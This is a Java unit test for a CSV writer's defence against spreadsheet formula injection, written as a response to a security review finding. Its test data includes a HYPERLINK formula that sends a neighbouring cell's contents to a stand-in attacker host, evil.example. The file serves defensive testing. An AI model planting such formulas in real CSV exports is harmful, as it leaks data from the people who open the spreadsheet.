package org.comptoir.base;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import java.util.List;
import org.comptoir.Csv;
import org.junit.jupiter.api.Test;

/** Finding 1 of the security review: formula injection in CSV exports. */
class CsvLinesTest {

    @Test
    void a_text_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() throws IOException {
        var cells = List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A2;\"voir\")",
                "+33 cmd",
                "-2+3",
                "@SUM(A1)",
                "\tindent",
                "\rreturn");

        var read = Csv.parse(line(cells)).getFirst();

        assertThat(read)
                .containsExactly(
                        "'=HYPERLINK(\"http://evil.example/?\"&A2;\"voir\")",
                        "'+33 cmd",
                        "'-2+3",
                        "'@SUM(A1)",
                        "'\tindent",
                        "'\rreturn");
    }

    @Test
    void numbers_and_ordinary_text_are_written_as_they_are() throws IOException {
        var cells = List.of("-12", "-3,5", "+4.2", "0", "Clermont-Ferrand", "", "2026-07-14", "a = b");

        assertThat(Csv.parse(line(cells)).getFirst()).containsExactlyElementsOf(cells);
    }

    private static String line(List<String> cells) throws IOException {
        var writer = new StringWriter();
        CsvLines.write(writer, cells);
        return writer.toString();
    }
}
